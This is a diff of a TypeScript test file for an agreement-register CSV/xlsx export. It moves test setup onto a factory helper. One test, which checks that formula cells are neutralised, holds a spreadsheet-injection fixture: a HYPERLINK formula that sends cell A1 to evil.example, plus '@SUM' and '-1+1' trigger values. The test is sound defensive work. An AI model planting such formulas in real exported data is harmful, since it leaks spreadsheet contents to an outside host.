@@ -3,9 +3,8 @@ import iconv from "iconv-lite";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import { testDrivers } from "~/test/database";
 import { startTestApp, type TestApp } from "~/test/harness";
-import { createMember, createOrganization } from "~/test/factories";
+import { buildAgreement, createMember, createOrganization } from "~/test/factories";
 import { readTabular } from "~/lib/tabular.server";
-import * as agreementsApi from "./agreements";
 import * as exportRoute from "./agreements-export";
 
 const drivers = await testDrivers();
@@ -20,15 +19,8 @@ describe.each(drivers)("agreement register export on %s", (kind) => {
   });
 
   async function setup() {
-    const desk = await createMember(app.runtime, { role: "desk_admin" });
     const partner = await createOrganization(app.runtime.db, { kind: "company", name: "髙橋①商事株式会社" });
-    const res = await app.call(agreementsApi.action, {
-      path: "/api/v1/agreements",
-      method: "POST",
-      token: desk.token,
-      json: { title: "㈱髙橋①商事との連携協定", method: "project", partnerIds: [partner.id], purpose: "目的", items: [{ title: "項目", field: "health" }] },
-    });
-    expect(res.status).toBe(201);
+    const { desk } = await buildAgreement(app.runtime, { partnerIds: [partner.id], input: { title: "㈱髙橋①商事との連携協定", purpose: "目的", items: [{ title: "項目", field: "health" }] } });
     return { desk, partner };
   }
 
@@ -69,17 +61,10 @@ describe.each(drivers)("agreement register export on %s", (kind) => {
   });
 
   it("neutralises formula cells in the CSV, writes them as plain text in the xlsx, and reads the CSV back unchanged", async () => {
-    const desk = await createMember(app.runtime, { role: "desk_admin" });
     const evil = '=HYPERLINK("http://evil.example/?"&A1,"詳細")';
     const partner = await createOrganization(app.runtime.db, { kind: "company", name: evil });
     const title = "-1+1 協定";
-    const res = await app.call(agreementsApi.action, {
-      path: "/api/v1/agreements",
-      method: "POST",
-      token: desk.token,
-      json: { title, method: "project", partnerIds: [partner.id], purpose: "@SUM(A1:A9)", items: [{ title: "項目", field: "health" }] },
-    });
-    expect(res.status).toBe(201);
+    const { desk } = await buildAgreement(app.runtime, { partnerIds: [partner.id], input: { title, purpose: "@SUM(A1:A9)", items: [{ title: "項目", field: "health" }] } });
     for (const encoding of ["utf-8", "shift_jis"]) {
       const bytes = Buffer.from(await (await app.call(exportRoute.loader, { path: `/api/v1/agreements/export.csv?encoding=${encoding}`, token: desk.token })).arrayBuffer());
       const text = encoding === "shift_jis" ? iconv.decode(bytes, "cp932") : bytes.toString("utf8");
